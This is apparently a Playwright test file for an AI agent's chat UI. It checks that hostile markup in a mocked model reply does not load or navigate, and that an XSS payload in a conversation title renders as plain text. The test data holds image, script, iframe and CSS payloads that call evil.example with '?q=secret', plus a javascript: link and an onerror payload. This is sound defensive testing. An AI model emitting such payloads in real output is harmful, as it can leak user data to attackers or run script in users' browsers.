"""What a model writes is words: nothing in them loads, opens, runs or leads astray by itself."""

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, Request, expect

from tests.browser.test_screens import ask
from tests.desktop.running import RetailPeer, RunningAgent
from tests.peers.gemini import GeminiPeer
from tests.peers.model_script import text

pytestmark = pytest.mark.browser

HOSTILE = """Look: ![a](http://evil.example/a.png?q=secret) ![b][ref] <img src="http://evil.example/b.png">
<script src="http://evil.example/c.js"></script><iframe src="http://evil.example/d"></iframe>
<link rel="stylesheet" href="http://evil.example/e.css"><meta http-equiv="refresh" content="0;url=http://evil.example/f">
<svg><image href="http://evil.example/g.svg"/></svg><video poster="http://evil.example/h"></video>
<a class="fig" data-result="x" href="http://evil.example/i">₹1</a> <style>@import "http://evil.example/j"</style>

[https://vmart.example/report](https://evil.example/?q=secret) and [run](javascript:alert(1)) and
[data](data:text/html,hello) and <https://evil.example/k> and [mail](mailto:x@evil.example)

[ref]: http://evil.example/l.png
"""


def test_nothing_loads_and_a_link_tells_where_it_leads(page: Page, tmp_path: Path) -> None:
    asked: list[str] = []
    opened: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    def note_page(other: Page) -> None:
        opened.append(other.url)

    with (
        RetailPeer() as backend,
        GeminiPeer([text(HOSTILE)]) as gemini,
        RunningAgent(tmp_path, backend_url=backend.url, gemini_url=gemini.url) as agent,
    ):
        page.goto(agent.serving.door.link)
        page.on("request", note)
        page.context.on("page", note_page)
        expect(page.get_by_text("Backend online")).to_be_visible()
        address = page.url
        ask(page, "q")
        said = page.locator(".say")
        expect(said).to_contain_text("Look:")
        expect(
            said.locator("img, script, iframe, link, meta, svg:not(.icon), video, style, object, embed")
        ).to_have_count(0)
        links = said.locator("a[href]")
        expect(links).to_have_count(4)  # a picture becomes a link
        assert {link.get_attribute("href") for link in links.all()} == {
            "http://evil.example/a.png?q=secret",
            "http://evil.example/l.png",
            "https://evil.example/?q=secret",
            "https://evil.example/k",
        }
        for link in links.all():
            expect(link).to_have_attribute("rel", re.compile("noopener"))
            expect(link).to_have_attribute("data-host", "evil.example")
        shown = links.first.evaluate("each => getComputedStyle(each, '::after').content")
        assert "evil.example" in shown
        page.wait_for_timeout(300)
        assert page.url.split("#")[0] == address.split("#")[0]
        assert opened == []
        assert [url for url in asked if "evil.example" in url] == []


def test_names_of_others_are_words_wherever_they_stand(page: Page, tmp_path: Path) -> None:
    evil = "<img src=x onerror=alert(1)><b>bold</b>"
    with RetailPeer() as backend, RunningAgent(tmp_path, backend_url=backend.url) as agent:
        conversation = agent.json("POST", "/api/conversations", {})["id"]
        agent.json("PATCH", f"/api/conversations/{conversation}", {"title": evil})
        page.goto(agent.serving.door.link)
        entry = page.locator(".rail-list .conv .item")
        expect(entry).to_have_text(evil)
        entry.click()
        expect(page.locator("#title")).to_have_text(evil)
        expect(page.locator("img, b", has_text="bold")).to_have_count(0)
